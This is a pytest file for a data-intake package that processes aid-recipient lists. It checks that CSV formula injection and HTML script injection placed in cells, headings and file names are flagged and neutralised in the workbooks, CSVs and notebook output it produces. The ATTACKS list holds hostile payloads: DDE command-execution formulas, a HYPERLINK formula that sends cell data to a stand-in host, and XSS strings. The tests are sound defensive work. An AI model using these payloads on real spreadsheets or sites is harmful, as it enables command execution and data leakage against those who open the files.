"""A list made to attack whoever opens what comes of it: formulas, script, headings and file names that are either."""

import re
import zipfile
from io import StringIO

import pandas as pd
import pytest
from python_calamine import CalamineWorkbook

from kaur_analysis.intake import as_written, csv_text, demo_keys, read_study, write_findings_workbook
from kaur_analysis.reporting import diagnostics
from tests.intake_files import nik, recipients, study

ATTACKS = (
    "=cmd|' /C calc'!A0", "=HYPERLINK(\"//jahat.example/?\"&A1)", "@SUM(1+1)*cmd|' /C calc'!A0", "+1+cmd", "-2+3+cmd",
    "<script>alert(1)</script>", '"><img src=x onerror=alert(1)>',
)  # fmt: skip
HEAD = ["Nama", "NIK", "Tanggal Lahir", "Jenis Kelamin", "Desa", "Kecamatan", "Nilai Bantuan"]


def attacked(folder, attack):
    """Findings and accounting of a list whose cells, one heading and file name are the attack."""
    name = re.sub(r'[\\/:*?"<>|]', "_", f"{attack}.csv")
    rows = [["Zorabruk Vekador", nik(), "12/05/1980", attack, "Merpas", "Nasal", attack, ""]]
    pd.DataFrame(rows, columns=[*HEAD, attack]).to_csv(folder / name, sep=";", index=False)
    return read_study(study(folder, recipients(path=name)), demo_keys(), strict=False)


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_attack_in_a_cell_and_in_a_heading_is_reported(tmp_path, attack):
    rules = set(attacked(tmp_path, attack).findings["rule"])
    assert {"kode_tidak_dikenal", "angka_tidak_terbaca", "judul_tidak_dikenal"} <= rules


@pytest.mark.parametrize("attack", ATTACKS)
def test_the_findings_workbook_has_no_formula_and_no_link(tmp_path, attack):
    result = attacked(tmp_path, attack)
    path = write_findings_workbook(result.findings, result.accounting, tmp_path / "temuan.xlsx")
    with zipfile.ZipFile(path) as archive:
        text = "".join(archive.read(name).decode("utf-8") for name in archive.namelist() if "sheet" in name)
    assert re.findall(r"<f[ >]|<hyperlink", text) == []


@pytest.mark.parametrize("attack", [attack for attack in ATTACKS if attack[0] in "=@+-"])
def test_what_a_spreadsheet_would_run_stands_behind_an_apostrophe(tmp_path, attack):
    result = attacked(tmp_path, attack)
    path = write_findings_workbook(result.findings, result.accounting, tmp_path / "temuan.xlsx")
    with CalamineWorkbook.from_path(str(path)) as book:
        texts = [
            cell
            for name in book.sheet_names
            for row in book.get_sheet_by_name(name).to_python()
            for cell in row
            if isinstance(cell, str)
        ]
    begun = [text for text in texts if text.startswith("'" + attack[0])]
    assert begun and not [text for text in texts if text.startswith(("=", "+", "-", "@"))]


@pytest.mark.parametrize("attack", ATTACKS)
def test_what_notebooks_show_of_it_is_text(tmp_path, attack):
    result = attacked(tmp_path, attack)
    html = diagnostics.findings_summary(result.findings).html + diagnostics.accounting_table(result.accounting).html
    assert "<script" not in html and "<img" not in html


DANGEROUS = [*(attack for attack in ATTACKS if attack[0] in "=@+-"), "\t=1+1", "-"]


@pytest.mark.parametrize("attack", DANGEROUS)
def test_a_text_that_a_spreadsheet_would_run_stands_behind_an_apostrophe_in_a_csv(attack):
    cells = pd.read_csv(StringIO(csv_text(pd.DataFrame({"programme": [attack]}))), dtype=str)
    assert cells["programme"].tolist() == ["'" + attack]


def test_a_negative_number_in_a_csv_stays_a_number():
    assert csv_text(pd.DataFrame({"value": [-0.0066, None]})) == 'value\n-0.0066\n""\n'


@pytest.mark.parametrize("text", [*DANGEROUS, "'Aisyah", "biasa", ""])
def test_a_text_of_a_csv_is_read_back_as_it_was(text):
    table = pd.DataFrame({"group": [text]}, dtype="str")
    again = pd.read_csv(StringIO(csv_text(table)), dtype=str, keep_default_na=False)
    assert as_written(again)["group"].tolist() == [text]


def test_columns_of_text_are_written_as_their_cells_one_by_one():
    texts = ["=1+1", "biasa", None, "-5", "biasa", "", "'=a"]
    kept, plain = (pd.DataFrame({"n": range(7), "text": pd.Series(texts, dtype=kind)}) for kind in ("str", "object"))
    assert csv_text(kept) == csv_text(plain)
